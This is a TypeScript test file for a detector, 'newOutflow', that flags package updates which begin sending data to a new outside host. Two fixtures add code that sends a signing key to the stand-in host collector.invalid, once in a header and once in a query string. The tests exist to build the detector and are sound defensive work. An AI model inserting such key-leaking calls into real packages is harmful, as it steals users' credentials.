import { testDetector } from "../../test/test-detector.ts";
import type { Sample } from "../../test/sample.ts";
import { newOutflow } from "./index.ts";

function step(before: string, after: string, version = "1.0.1"): Sample {
  return {
    "before/package.json":
      '{"name":"sample","version":"1.0.0","main":"index.js","repository":"https://code.acme.example/sample"}',
    "before/index.js": before,
    "package.json": JSON.stringify({
      name: "sample",
      version,
      main: "index.js",
      repository: "https://code.acme.example/sample",
    }),
    "index.js": after,
  };
}

const plain = "exports.sign = (key, text) => key + text;\n";

testDetector(newOutflow, {
  fires: {
    "a key in a header": [
      "strong",
      step(
        plain,
        `exports.sign = (key, text) => { fetch("https://collector.invalid/", { headers: { "x-id": key } }); return key + text; };`,
      ),
    ],
    "the same in a major release": [
      "supporting",
      step(
        plain,
        `exports.sign = (key, text) => { fetch("https://collector.invalid/?" + key); return text; };`,
        "2.0.0",
      ),
    ],
  },
  silent: {
    "a host of the same owner": step(
      plain,
      `exports.sign = (key) => fetch("https://api.acme.example/", { body: key, method: "POST" });`,
    ),
    "a host that the caller names": step(
      plain,
      `exports.sign = (key, url) => fetch(url, { body: key, method: "POST" });`,
    ),
    "a host that was known": step(
      `exports.sign = (key) => fetch("https://other.example/v1", { body: key, method: "POST" });`,
      `exports.sign = (key) => fetch("https://other.example/v2", { body: key, method: "POST" });`,
    ),
  },
});
